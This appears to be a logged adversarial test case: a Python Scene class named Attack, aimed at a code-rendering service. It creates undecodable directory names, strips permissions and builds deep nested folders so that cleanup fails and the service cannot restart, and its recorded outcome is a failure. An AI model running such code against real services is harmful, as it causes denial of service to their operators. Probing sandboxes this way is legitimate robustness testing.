"""Success: a folder remains because its name is not UTF-8, and the job does not end or the service does not start.

Outcome: failed: ValueError: over|can't be read
"""


class Attack(Scene):
    def construct(self):
        home = os.open(".", os.O_RDONLY)
        for _ in range(2):
            os.mkdir(b"\xff\xfd")
            with open(b"\xff\xfd/\xe9", "wb") as file:
                file.write(bytes(1 << 20))
            os.mkdir(b"\xff\xfd/\xe8", 0)
            os.chmod(b"\xff\xfd", 0)
            for _ in range(30):
                os.mkdir("d" * 200)
                os.chdir("d" * 200)
        os.fchdir(home)
        raise ValueError("over")
